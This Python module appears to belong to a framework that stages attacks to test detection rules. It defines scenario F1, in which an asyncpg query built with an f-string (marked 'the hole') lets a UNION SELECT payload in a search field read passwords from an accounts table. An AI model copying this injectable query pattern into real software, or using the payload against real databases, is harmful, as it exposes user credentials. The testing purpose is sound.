"""F1: an injected UNION reads passwords out of another table."""

import asyncio

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.protocols.tables import LOOT, PostgreSQLOfTables
from backwatch.attack.techniques.abused import Abused
from backwatch.attack.techniques.postgresql import asyncpg_connected


class UnionInjected(Abused):
    """On asyncpg: a page that writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads a table of passwords through a UNION that a search field let in"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    driver = "asyncpg"
    rule = "query-attack"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Honest."""
        return PostgreSQLOfTables(authority)

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            asyncio.run(self._search(name))

    def meet(self) -> object:
        """Searches for what the attacker typed."""
        return asyncio.run(self._search("nobody' UNION SELECT id, name, password FROM accounts WHERE id < 5 -- "))

    async def _search(self, name: str) -> list[list[str]]:
        connection = await asyncpg_connected(self.config)
        statement = f"SELECT id, name, mail FROM customers WHERE name = '{name}' ORDER BY id"  # the hole
        found = await connection.fetch(statement)
        await connection.close()
        return [[str(value) for value in one.values()] for one in found]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """A password hash came back."""
        del service
        return LOOT in str(got)
